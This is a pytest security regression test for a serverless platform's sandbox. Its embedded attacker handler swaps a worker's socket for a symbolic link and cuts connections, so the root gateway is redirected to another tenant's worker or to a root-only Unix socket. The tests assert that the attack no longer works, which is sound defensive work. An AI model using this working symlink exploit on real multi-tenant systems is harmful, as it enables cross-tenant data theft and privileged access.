"""Attack: a handler turns its worker's socket into a link, so that the gateway, which
connects as root, carries its calls to a socket of the attacker's choosing.

The socket directory is the one host directory a worker writes to (``/run/sless``), and
``/proc/self/mountinfo`` names its host path: the run directory, and from it every other
worker's socket (``<run dir>/<sha256(namespace/name.version)[:12]>-<serial>``). A handler
replaces ``worker.sock`` with a symbolic link and closes the gateway's kept-alive
connections; the gateway's next connection, made by name, followed the link:

- to another tenant's ``auth: token`` worker, whose answers (and whatever the request
  asks of it) then came back on the attacker's public URL;
- to any Unix socket of the host that only root may open (a container runtime's API,
  a database): the gateway sent the attacker's request there, as root, and returned the
  answer.

Every connection the platform makes to a worker now opens the name without following a
link, requires a socket and connects to that inode (``sless.sandbox.sockets``).
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.conftest import RunningGateway
from tests.support import deploy

pytestmark = pytest.mark.integration

MARK = "bravo-private-answer-7f3a"
ROOT_SECRET = "root-only-service-answer-91c2"
VICTIM = {"handler.py": f"def handle(event, context):\n    return {{'who': '{MARK}'}}\n"}

# ``?to=PATH`` links worker.sock to PATH; ``?to=tenant:NS/NAME.VERSION`` to the socket of that
# tenant's first worker, found from the run directory that mountinfo shows. Then every
# connection the gateway holds to this worker is shut down, so that it connects again.
ATTACKER = {
    "handler.py": """
import hashlib, os, socket, threading, time

SOCK = "/run/sless/worker.sock"


def run_dir():
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if fields[4] == "/run/sless":
            return fields[3].rsplit("/", 1)[0]


def cut_connections():
    time.sleep(0.3)
    for name in os.listdir("/proc/self/fd"):
        try:
            s = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and not s.getsockopt(
                socket.SOL_SOCKET, socket.SO_ACCEPTCONN
            ):
                s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        finally:
            s.close()


def handle(event, context):
    to = (event.get("query") or {}).get("to")
    if not to:
        return {"who": "alpha"}
    if to.startswith("tenant:"):
        digest = hashlib.sha256(to[len("tenant:"):].encode()).hexdigest()[:12]
        to = f"{run_dir()}/{digest}-1/worker.sock"
    os.unlink(SOCK)
    os.symlink(to, SOCK)
    threading.Thread(target=cut_connections).start()
    return {"linked": to}
""",
}


def _call(gateway: RunningGateway, path: str, **params: str) -> httpx.Response:
    return httpx.get(f"{gateway.url}{path}", params=params, timeout=30)


def _after_the_swap(gateway: RunningGateway, to: str) -> list[httpx.Response]:
    armed = _call(gateway, "/fn/sless-alpha/swap", to=to)
    assert armed.status_code == 200, armed.text
    assert armed.json()["linked"], armed.text
    time.sleep(1)  # the handler's thread shuts the kept-alive connections down
    return [_call(gateway, "/fn/sless-alpha/swap") for _ in range(3)]


def test_a_worker_cannot_send_its_calls_to_another_tenants_worker(
    gateway: RunningGateway,
) -> None:
    a, b = gateway.tenant("alpha"), gateway.tenant("bravo")
    # egress: a worker started for it (pre-started ones live elsewhere), so its socket's
    # name is the one the attacker computes
    spec = {"auth": "token", "min_instances": 1, "egress": ["example.com:443"]}
    deploy(b, "sless-bravo", "private", VICTIM, spec)
    assert _call(gateway, "/fn/sless-bravo/private").status_code in (401, 404)
    assert b.post("/fn/sless-bravo/private").json() == {"who": MARK}
    deploy(a, "sless-alpha", "swap", ATTACKER)

    answers = _after_the_swap(gateway, "tenant:sless-bravo/private.v1")

    assert not [r for r in answers if MARK in r.text], [r.text for r in answers]
    # bravo's worker still serves bravo
    assert b.post("/fn/sless-bravo/private").json() == {"who": MARK}


class _RootOnlyService:
    """A Unix socket in a directory only root may enter, answering one HTTP response to
    whoever connects (a container runtime's API, say), and counting who did."""

    def __init__(self, directory: Path) -> None:
        directory.mkdir(mode=0o700)
        self.path = directory / "api.sock"
        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(self.path))
        self.listener.listen(8)
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                try:
                    self.received.append(conn.recv(65536))
                    body = ROOT_SECRET.encode()
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                        + f"Content-Length: {len(body)}\r\n\r\n".encode()
                        + body
                    )
                except OSError:
                    pass

    def close(self) -> None:
        self.listener.close()


@pytest.fixture
def root_only_service(tmp_path: Path) -> Iterator[_RootOnlyService]:
    service = _RootOnlyService(tmp_path / "private")
    yield service
    service.close()


def test_a_worker_cannot_send_its_calls_to_a_root_only_socket(
    gateway: RunningGateway, root_only_service: _RootOnlyService
) -> None:
    a = gateway.tenant("alpha")
    deploy(a, "sless-alpha", "swap", ATTACKER)

    answers = _after_the_swap(gateway, str(root_only_service.path))

    assert not [r for r in answers if ROOT_SECRET in r.text], [r.text for r in answers]
    assert root_only_service.received == []
